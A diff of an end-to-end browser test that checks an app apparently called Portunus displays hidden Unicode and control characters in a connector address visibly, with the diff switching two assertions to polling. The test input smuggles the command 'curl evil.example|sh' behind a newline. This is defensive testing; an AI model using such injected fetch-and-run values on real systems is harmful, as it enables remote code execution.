@@ -22,7 +22,7 @@ describeLongUnless(skip)(`faults that the console meets in Chromium${note}${LONG
 
   beforeAll(async () => {
     world = await startWorld();
-  }, 120_000);
+  });
   beforeEach(async () => {
     ada = await world.visitAs('Ada');
     ada.page.on('pageerror', (error) => thrown.push(error.message));
@@ -58,8 +58,10 @@ describeLongUnless(skip)(`faults that the console meets in Chromium${note}${LONG
 
   it('shows what an address hides, in the title and in the command to copy', async () => {
     await open(`/connectors/${encodeURIComponent('x\u202E\u0003\ncurl evil.example|sh')}`);
-    expect(await ada.page.getByRole('heading', { level: 1 }).innerText()).toContain('xU+202EU+0003U+000Acurl');
-    expect(await ada.page.title()).toBe('xU+202EU+0003U+000Acurl evil.example|sh · Portunus');
+    await expect
+      .poll(() => ada.page.getByRole('heading', { level: 1 }).innerText())
+      .toContain('xU+202EU+0003U+000Acurl');
+    await expect.poll(() => ada.page.title()).toBe('xU+202EU+0003U+000Acurl evil.example|sh · Portunus');
     const command = `portunus get connector $'x\\xe2\\x80\\xae\\x03\\x0acurl evil.example|sh'`;
     await ada.page.getByText(command).waitFor();
   });
